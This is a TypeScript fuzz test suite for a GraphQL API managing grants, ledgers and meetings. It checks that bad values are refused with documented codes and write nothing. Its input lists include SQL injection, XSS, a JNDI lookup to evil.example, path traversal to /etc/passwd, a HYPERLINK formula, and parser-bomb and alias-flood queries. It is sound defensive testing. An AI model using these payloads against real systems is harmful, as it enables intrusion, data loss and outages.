import fc from 'fast-check';
import {
  getNamedType,
  GraphQLField,
  GraphQLInputType,
  GraphQLSchema,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isScalarType,
} from 'graphql';
import { changedTables, dbSnapshot, DbSnapshot } from '../support/db-snapshot';
import {
  GraphQLClient,
  GraphQLErrorShape,
  GraphQLResponse,
  unnamedFailures,
} from '../support/graphql-client';
import { buildRecordWorld, RecordWorld } from '../support/record-world';
import { rootOperations, servedSchema } from '../support/schema';
import { startTestApp, TestApp } from '../support/test-app';
import { createTenant, PASSWORD, TenantRole, TestTenant } from '../support/tenant';

/** Codes a client may be answered with (README, "Errors"); INTERNAL_SERVER_ERROR never. */
const DOCUMENTED = new Set([
  'BAD_USER_INPUT',
  'UNAUTHENTICATED',
  'FORBIDDEN',
  'NOT_FOUND',
  'CONFLICT',
  'TOO_MANY_REQUESTS',
]);
const SEED = 20_260_501;
const RUNS_PER_MUTATION = Number(process.env['BRAID_FUZZ_RUNS'] ?? 24);
const RUNS_PER_QUERY = Math.ceil(RUNS_PER_MUTATION / 3);

/** Who performs each mutation: someone allowed to, so the bad value reaches validation and the rules. */
const PERFORMER: Record<string, TenantRole | 'anonymous'> = {
  signIn: 'anonymous',
  acceptInvitation: 'anonymous',
  ...Object.fromEntries(
    ['createActionItem', 'updateActionItem', 'postActionUpdate'].map((name) => [name, 'lead']),
  ),
  ...Object.fromEntries(
    ['startGrantReport', 'saveGrantReportDraft', 'submitGrantReport', 'removeReportAttachment'].map(
      (name) => [name, 'partnerA'],
    ),
  ),
  ...Object.fromEntries(
    [
      'createFundingStream',
      'recordContribution',
      'recordContributionReceipt',
      'writeOffContribution',
      'createGrant',
      'releaseDisbursement',
      'markDisbursementPaid',
      'cancelDisbursement',
      'reverseLedgerTransaction',
      'reviewGrantReport',
      'createMetric',
      'setGrantMetric',
      'updateReportingRequirement',
    ].map((name) => [name, 'fundAdmin']),
  ),
  ...Object.fromEntries(
    [
      'scheduleMeeting',
      'updateMeeting',
      'setAgenda',
      'startMeeting',
      'adjournMeeting',
      'cancelMeeting',
      'recordAttendance',
      'draftMinutes',
      'updateMinutes',
      'circulateMinutes',
      'correctMinutes',
      'createMotion',
      'openMotion',
      'closeMotion',
      'withdrawMotion',
      'castBallot',
      'declareConflict',
    ].map((name) => [name, 'chair']),
  ),
};

/** The record an operation's own `id` names (as an argument or `input.id`). */
const TARGET: Record<string, keyof RecordWorld> = {
  updateCollaborative: 'collaborative',
  updateOrganization: 'funder',
  updateSeat: 'seat',
  updateMembership: 'membership',
  revokeMembership: 'membership',
  revokeInvitation: 'invitation',
  updateWorkgroup: 'workgroup',
  updateActionItem: 'actionItem',
  updateMeeting: 'scheduledMeeting',
  startMeeting: 'scheduledMeeting',
  cancelMeeting: 'scheduledMeeting',
  adjournMeeting: 'meeting',
  updateMinutes: 'draftMinutes',
  circulateMinutes: 'draftMinutes',
  openMotion: 'draftMotion',
  closeMotion: 'openMotion',
  withdrawMotion: 'draftMotion',
};

/** Ids by the name of the field that carries them. */
const ID_FIELDS: Record<string, keyof RecordWorld> = {
  collaborativeId: 'collaborative',
  seatId: 'seat',
  motionId: 'openMotion',
  meetingId: 'meeting',
  workgroupId: 'workgroup',
  actionItemId: 'actionItem',
  minutesId: 'approvedMinutes',
  fundingStreamId: 'fundingStream',
  contributionId: 'contribution',
  disbursementId: 'disbursement',
  ledgerTransactionId: 'releaseTransaction',
  organizationId: 'granteeA',
  recipientOrganizationId: 'granteeA',
  funderOrganizationId: 'funder',
  approvingMotionId: 'passedFundingMotion',
  userId: 'user',
  requirementId: 'requirement',
  reportId: 'draftReport',
  metricId: 'metric',
  attachmentId: 'attachment',
  grantId: 'grant',
  holderUserId: 'user',
  ownerUserId: 'user',
};

let sequence = 0;
const unique = (prefix: string) => `${prefix}-${Date.now().toString(36)}-${++sequence}`;

/** A value an authorized caller could plausibly send, for the required fields of an input. */
function plausible(type: GraphQLInputType, field: string, operation: string, world: RecordWorld): unknown {
  if (isNonNullType(type)) return plausible(type.ofType, field, operation, world);
  if (isListType(type)) {
    return /^(allowed|lead|member|required|metric|reporting)/.test(field)
      ? []
      : [plausible(type.ofType, field, operation, world)];
  }
  if (isInputObjectType(type)) {
    return Object.fromEntries(
      Object.values(type.getFields())
        .filter((child) => isNonNullType(child.type) && child.defaultValue === undefined)
        .map((child) => [child.name, plausible(child.type, child.name, operation, world)]),
    );
  }
  if (isEnumType(type)) return type.getValues()[0].value;
  switch (type.name) {
    case 'ID':
      if (field === 'id') return world[TARGET[operation]];
      // A review needs a submitted report; everything else of a report works on the draft.
      if (field === 'reportId' && operation === 'reviewGrantReport') return world.submittedReport;
      return world[ID_FIELDS[field]] ?? world.collaborative;
    case 'Cents':
      return '100';
    case 'LocalDate':
      return field.startsWith('period') || field.endsWith('On') ? '2025-10-01' : '2026-03-01';
    case 'DateTime':
      return '2027-01-04T17:00:00Z';
    case 'Int':
      return 1;
    case 'Boolean':
      return false;
    case 'JSON':
      return {};
    default:
      if (field === 'email') return `${unique('fuzz')}@fuzz.test`;
      if (field === 'slug') return unique('fuzz');
      if (field === 'currency') return 'USD';
      if (field === 'website' || field === 'remoteLink') return 'https://example.org';
      if (field === 'token') return 'no-such-invitation-token';
      if (field.toLowerCase().includes('password')) return 'not the password at all';
      if (field === 'idempotencyKey') return unique('fuzz-release');
      return 'Fuzz baseline';
  }
}

/** Past the body parser's 100 kB limit once wrapped in the request. */
const HUGE = 'x'.repeat(110_000);
const INJECTIONS = [
  "'; DROP TABLE seat; --",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '=HYPERLINK("http://evil.example")',
  'nul\u0000byte',
  '\uD800',
  'emoji 🎉 and RTL \u202E',
  '\\',
];
const WRONG_TYPES: unknown[] = [1, -1, 1.5, true, {}, [], { nested: { deeper: [1] } }, 'text', ''];
const BAD_CENTS: unknown[] = [
  '-1',
  '9223372036854775808',
  '-9223372036854775809',
  '99999999999999999999999',
  '1e3',
  '0.5',
  '1,000',
  ' 100',
  '0x10',
  'NaN',
  'Infinity',
  '',
  1.5,
  -5,
  Number.MAX_SAFE_INTEGER + 2,
];
const BAD_DATES: unknown[] = [
  '2026-02-30',
  '2026-13-01',
  '2026-1-1',
  '0000-00-00',
  '+275760-09-13',
  'yesterday',
  '2026-03-01T25:00:00Z',
  '',
  20260301,
];
const BAD_DATETIMES: unknown[] = [
  '2026-02-30T10:00:00Z',
  'not a time',
  '',
  1e20,
  '2026-03-01 25:61',
  '-271821-04-20T00:00:00Z',
];
const BAD_IDS: unknown[] = [
  'not-a-uuid',
  "'; DROP TABLE seat; --",
  '00000000-0000-0000-0000-00000000000g',
  ' ',
  '',
  42,
  '../etc',
];

/** A wrong value for a position of this type. */
function badValue(type: GraphQLInputType): fc.Arbitrary<unknown> {
  const named = getNamedType(type);
  const generic = fc.oneof(
    fc.constantFrom(...WRONG_TYPES),
    fc.constantFrom(...INJECTIONS),
    fc.constant(HUGE),
    fc.constant(null),
    fc.string({ maxLength: 40, unit: 'binary' }),
  );
  const specific: fc.Arbitrary<unknown>[] = [];
  if (isEnumType(named))
    specific.push(
      fc.constantFrom(
        'ASTRONAUT',
        named.getValues()[0].value.toLowerCase(),
        `${named.getValues()[0].value} `,
      ),
    );
  if (isScalarType(named)) {
    if (named.name === 'Cents') specific.push(fc.constantFrom(...BAD_CENTS), fc.bigInt().map(String));
    if (named.name === 'LocalDate') specific.push(fc.constantFrom(...BAD_DATES));
    if (named.name === 'DateTime') specific.push(fc.constantFrom(...BAD_DATETIMES));
    if (named.name === 'ID') specific.push(fc.constantFrom(...BAD_IDS));
    if (named.name === 'Int') specific.push(fc.constantFrom(2 ** 31, -(2 ** 31) - 1, -1, 1e300, '1'));
    if (named.name === 'String') specific.push(fc.constantFrom(...INJECTIONS, HUGE, '   '));
  }
  return specific.length
    ? fc.oneof({ weight: 1, arbitrary: generic }, ...specific.map((a) => ({ weight: 2, arbitrary: a })))
    : generic;
}

interface Position {
  path: string[];
  type: GraphQLInputType;
}

/** Every field position of an argument, down into input objects and the first element of lists. */
function positions(type: GraphQLInputType, path: string[], depth = 0): Position[] {
  const here: Position = { path, type };
  const named = getNamedType(type);
  if (!isInputObjectType(named) || depth > 3) return [here];
  const inList = isListType(isNonNullType(type) ? type.ofType : type);
  const prefix = inList ? [...path, '0'] : path;
  return [
    here,
    ...Object.values(named.getFields()).flatMap((field) =>
      positions(field.type, [...prefix, field.name], depth + 1),
    ),
  ];
}

function documentFor(field: GraphQLField<unknown, unknown>, type = 'Mutation'): string {
  const signature = field.args.map((arg) => `$${arg.name}: ${arg.type.toString()}`).join(', ');
  const args = field.args.map((arg) => `${arg.name}: $${arg.name}`).join(', ');
  const selection = isLeafType(getNamedType(field.type)) ? '' : '{ __typename }';
  return `${type === 'Query' ? 'query' : 'mutation'} (${signature}) { ${field.name}(${args}) ${selection} }`;
}

function setAt(target: Record<string, unknown>, path: string[], value: unknown): Record<string, unknown> {
  const copy = structuredClone(target);
  let node: Record<string, unknown> | unknown[] = copy;
  for (const [index, key] of path.entries()) {
    const last = index === path.length - 1;
    const slot = Array.isArray(node) ? Number(key) : key;
    if (last) {
      (node as Record<string | number, unknown>)[slot] = value;
    } else {
      const next = (node as Record<string | number, unknown>)[slot];
      const container = next && typeof next === 'object' ? next : /^\d+$/.test(path[index + 1]) ? [{}] : {};
      (node as Record<string | number, unknown>)[slot] = container;
      node = container as Record<string, unknown>;
    }
  }
  return copy;
}

let resets = 0;

/**
 * A request, sent again (up to three times) if the connection was reset before any answer: after
 * refusing an oversized body unread the server closes that connection, and a client may pick a
 * pooled connection the server has just closed. A server that died would fail every try. The
 * number of retries is printed with the figures.
 */
async function send(client: GraphQLClient, document: string, variables: Record<string, unknown>) {
  for (let attempt = 1; ; attempt++) {
    try {
      return await client.request(document, variables);
    } catch (error) {
      if (!(error instanceof TypeError) || attempt >= 4) throw error;
      resets++;
      await new Promise((resolve) => setTimeout(resolve, 100 * attempt));
    }
  }
}

describe('Fuzzed bad input to every mutation', () => {
  let app: TestApp;
  let tenant: TestTenant;
  let world: RecordWorld;
  let schema: GraphQLSchema;
  let anonymous: GraphQLClient;

  beforeAll(async () => {
    app = await startTestApp('fuzz');
    tenant = await createTenant(app, 'fuzz');
    world = await buildRecordWorld(app, tenant);
    schema = await servedSchema(tenant.clients.admin);
    anonymous = app.client('anonymous');
  }, 120_000);
  afterAll(() => app.close());

  /**
   * A response is acceptable when it succeeds (the value was valid after all) or is refused with a
   * documented code and an unchanged database. Returns the snapshot to compare the next case with.
   */
  async function checked(
    label: string,
    response: GraphQLResponse<unknown>,
    before: DbSnapshot,
    failures: string[],
  ): Promise<DbSnapshot> {
    const after = await dbSnapshot(app);
    const error = response.errors?.[0];
    if (response.status >= 500) failures.push(`${label}: HTTP ${response.status}`);
    if (!error) return after;
    const code = String(error.extensions?.code);
    if (!DOCUMENTED.has(code)) failures.push(`${label}: ${code} ${error.message}`);
    const changed = changedTables(before, after);
    if (changed.length) failures.push(`${label}: refused with ${code} but changed ${changed.join(', ')}`);
    return after;
  }

  it('takes an explicit null in every optional field as "clear it" or refuses it, never as a server error', async () => {
    // Every nullable position of every mutation's input, each tried once, deterministically: an
    // optional field sent as null must not reach a NOT NULL column or a string method.
    const failures: string[] = [];
    let cases = 0;
    let before = await dbSnapshot(app);
    for (const { field } of rootOperations(schema).filter((op) => op.type === 'Mutation')) {
      const performer = PERFORMER[field.name] ?? 'admin';
      const client = performer === 'anonymous' ? anonymous : tenant.clients[performer];
      const document = documentFor(field);
      for (const place of field.args.flatMap((arg) => positions(arg.type, [arg.name]))) {
        if (isNonNullType(place.type) || place.path.includes('0')) continue;
        const baseline = Object.fromEntries(
          field.args.map((arg) => [arg.name, plausible(arg.type, arg.name, field.name, world)]),
        );
        const response = await send(client, document, setAt(baseline, place.path, null));
        cases++;
        const label = `${field.name} ${place.path.join('.')}=null`;
        before = await checked(label, response, before, failures);
      }
    }
    process.stdout.write(`\nExplicit nulls: ${cases} cases\n`);
    expect(cases).toBeGreaterThan(50);
    expect(failures).toEqual([]);
  }, 300_000);

  it('stores injection-looking text as plain text or refuses it, in every text field of every mutation', async () => {
    // Deterministic: each String position with each injection string, the rest of the input valid,
    // so the text reaches the service and the database (where a NUL byte or a lone surrogate is
    // refused by PostgreSQL itself).
    const failures: string[] = [];
    let cases = 0;
    let before = await dbSnapshot(app);
    for (const { field } of rootOperations(schema).filter((op) => op.type === 'Mutation')) {
      const performer = PERFORMER[field.name] ?? 'admin';
      const client = performer === 'anonymous' ? anonymous : tenant.clients[performer];
      const document = documentFor(field);
      const texts = field.args
        .flatMap((arg) => positions(arg.type, [arg.name]))
        .filter((place) => getNamedType(place.type).name === 'String');
      for (const place of texts) {
        for (const text of INJECTIONS) {
          const baseline = Object.fromEntries(
            field.args.map((arg) => [arg.name, plausible(arg.type, arg.name, field.name, world)]),
          );
          const value = isListType(isNonNullType(place.type) ? place.type.ofType : place.type)
            ? [text]
            : text;
          const response = await send(client, document, setAt(baseline, place.path, value));
          cases++;
          const label = `${field.name} ${place.path.join('.')}=${JSON.stringify(text)}`;
          before = await checked(label, response, before, failures);
        }
      }
    }
    process.stdout.write(`\nInjection strings: ${cases} cases\n`);
    expect(failures).toEqual([]);
    // The text went in as text: no table was dropped, and a stored name reads back unchanged.
    const [{ n }] = await app.dataSource.query(`SELECT count(*)::int AS n FROM seat`);
    expect(n).toBeGreaterThan(0);
  }, 300_000);

  it('answers every bad value with a documented code, never a server error, and writes nothing', async () => {
    const operations = rootOperations(schema).filter(
      (op) => op.type !== 'Subscription' && op.field.args.length > 0,
    );
    expect(operations.filter((op) => op.type === 'Mutation').length).toBeGreaterThan(40);
    const failures: string[] = [];
    let cases = 0;
    const codes: Record<string, number> = {};
    let before = await dbSnapshot(app);

    for (const { field, type } of operations) {
      const performer = type === 'Query' ? 'admin' : (PERFORMER[field.name] ?? 'admin');
      const client = performer === 'anonymous' ? anonymous : tenant.clients[performer];
      const document = documentFor(field, type);
      const places = field.args.flatMap((arg) => positions(arg.type, [arg.name]));
      const arbitrary = fc
        .constantFrom(...places)
        .chain((place) => fc.tuple(fc.constant(place), badValue(place.type), fc.boolean()));

      await fc.assert(
        fc.asyncProperty(arbitrary, async ([place, value, extraField]) => {
          const baseline = Object.fromEntries(
            field.args.map((arg) => [arg.name, plausible(arg.type, arg.name, field.name, world)]),
          );
          let variables = setAt(baseline, place.path, value);
          // Now and then an unknown field beside the bad value: refused as a whole.
          if (extraField && isInputObjectType(getNamedType(field.args[0].type)))
            variables = setAt(variables, [field.args[0].name, 'unexpected'], 'unexpected');
          const response = await send(client, document, variables);
          cases++;
          const code = response.errors?.[0] ? String(response.errors[0].extensions?.code) : 'accepted';
          codes[code] = (codes[code] ?? 0) + 1;
          const label = `${field.name} ${place.path.join('.')}=${JSON.stringify(value)?.slice(0, 60)}`;
          before = await checked(label, response, before, failures);
        }),
        { seed: SEED, numRuns: type === 'Query' ? RUNS_PER_QUERY : RUNS_PER_MUTATION, endOnFailure: true },
      );
    }
    process.stdout.write(
      `\nFuzz: ${cases} cases over ${operations.length} operations (seed ${SEED}); codes ${JSON.stringify(codes)}; connections reset and retried ${resets}\n`,
    );
    expect(failures).toEqual([]);
  }, 600_000);

  it('refuses very deep, very wide and oversized documents with BAD_USER_INPUT before running them', async () => {
    // A session of its own: an aliased sign-out must not end the administrator's.
    const session = await app.client('limits').signIn(tenant.users.admin.email, PASSWORD);
    const before = await dbSnapshot(app);
    const deep = `{ myCollaboratives ${'{ seats { holder { memberships { collaborative '.repeat(6)}{ id }${' } } } }'.repeat(6)} }`;
    const parserBomb = `{ ${'me { '.repeat(5_000)}id${' }'.repeat(5_000)} }`;
    // 2,000 aliases in 40 kB: within the body limit, refused by the parser's token limit.
    const wide = `{ ${Array.from({ length: 2_000 }, (_, i) => `a${i}:me{id email}`).join(' ')} }`;
    const aliasedMutations = `mutation { ${Array.from({ length: 500 }, (_, i) => `s${i}: signOut`).join(' ')} }`;
    const cycle = `query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }`;
    const huge = `{ me { id } } # ${'x'.repeat(2_000_000)}`;
    const results: Record<string, string> = {};
    for (const [name, document] of Object.entries({
      deep,
      parserBomb,
      wide,
      aliasedMutations,
      cycle,
      huge,
    })) {
      try {
        const response = await fetch(`${app.url}/graphql`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', cookie: session.sessionCookie ?? '' },
          body: JSON.stringify({ query: document }),
        });
        const body = (await response.json().catch(() => null)) as {
          errors?: GraphQLErrorShape[];
        } | null;
        const unnamed = unnamedFailures(body?.errors);
        results[name] =
          `${response.status < 500 ? '<500' : response.status} ${body?.errors?.[0]?.extensions?.code ?? 'no GraphQL error'}${unnamed.length ? ` ${unnamed.join('; ')}` : ''}`;
      } catch (error) {
        results[name] = `${(error as Error).message}: ${String((error as { cause?: unknown }).cause)}`;
      }
    }
    expect(results).toEqual(
      Object.fromEntries(
        ['deep', 'parserBomb', 'wide', 'aliasedMutations', 'cycle', 'huge'].map((name) => [
          name,
          '<500 BAD_USER_INPUT',
        ]),
      ),
    );
    expect(changedTables(before, await dbSnapshot(app))).toEqual([]);
  });
});
